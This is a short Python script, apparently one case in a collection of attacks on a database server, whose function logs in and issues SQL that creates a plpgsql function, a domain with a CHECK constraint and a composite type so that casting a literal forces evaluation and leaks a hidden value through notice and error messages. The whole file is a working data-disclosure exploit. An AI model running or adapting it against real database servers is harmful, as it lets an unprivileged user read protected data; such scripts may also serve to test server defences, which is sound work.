"""Has a value made while a text is looked at that only an older grammar accepts."""

from attacks.frames import SYNC, ask, parse, query
from attacks.talking import Server

WANTS = "read"
UNTIL = 15


def attack(server: Server) -> bytes:
    with server.login() as client:
        ask(
            client,
            query(
                b"CREATE FUNCTION look(int) RETURNS bool LANGUAGE plpgsql AS"
                b" $$ BEGIN RAISE NOTICE '%', account_unseen($1);"
                b" RAISE EXCEPTION '%', account_unseen($1); END $$"
            ),
        )
        ask(client, query(b"CREATE DOMAIN seen AS int CHECK (look(VALUE))"))
        ask(client, query(b"CREATE TYPE pair AS (a seen)"))
        got = ask(client, parse(b"SELECT '(1)'::pair FROM (SELECT 1) system_user"), SYNC)
        return got + ask(client, query(b"SELECT '(1)'::pair FROM (SELECT 1) system_user"))
